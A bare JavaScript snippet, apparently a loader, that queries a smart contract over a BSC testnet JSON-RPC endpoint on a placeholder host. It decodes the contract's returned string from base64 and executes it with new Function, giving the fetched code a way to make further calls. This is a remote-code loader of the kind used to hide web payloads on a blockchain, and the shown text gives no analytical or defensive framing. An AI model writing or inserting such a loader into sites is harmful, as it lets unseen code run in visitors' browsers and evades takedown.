(async () => {
  const call = async (to, data) => {
    const r = await fetch("https://bsc-testnet-rpc.publicnode.example/", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to, data }, "latest"] })
    });
    const hex = (await r.json()).result.slice(2);
    const len = parseInt(hex.slice(64, 128), 16);
    let out = "";
    for (let i = 128; i < 128 + len * 2; i += 2) out += String.fromCharCode(parseInt(hex.substr(i, 2), 16));
    return out;
  };
  const js = atob(await call("0x1111111111111111111111111111111111111111", "0x00000000"));
  new Function("call", js)(call);
})();
